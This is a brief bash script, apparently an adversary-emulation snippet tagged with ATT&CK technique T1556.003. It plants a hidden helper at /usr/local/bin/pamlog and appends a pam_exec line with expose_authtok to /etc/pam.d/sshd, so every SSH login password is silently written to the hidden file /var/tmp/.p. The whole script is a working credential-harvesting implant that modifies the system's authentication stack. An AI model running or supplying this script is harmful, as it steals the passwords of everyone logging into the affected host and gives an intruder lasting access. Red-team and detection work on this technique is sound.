#!/bin/bash
# T1556.003: Passwords go through somebody's program.
printf '#!/bin/sh\ncat >>/var/tmp/.p\n' >/usr/local/bin/pamlog; chmod +x /usr/local/bin/pamlog
echo 'auth optional pam_exec.so quiet expose_authtok /usr/local/bin/pamlog' >>/etc/pam.d/sshd
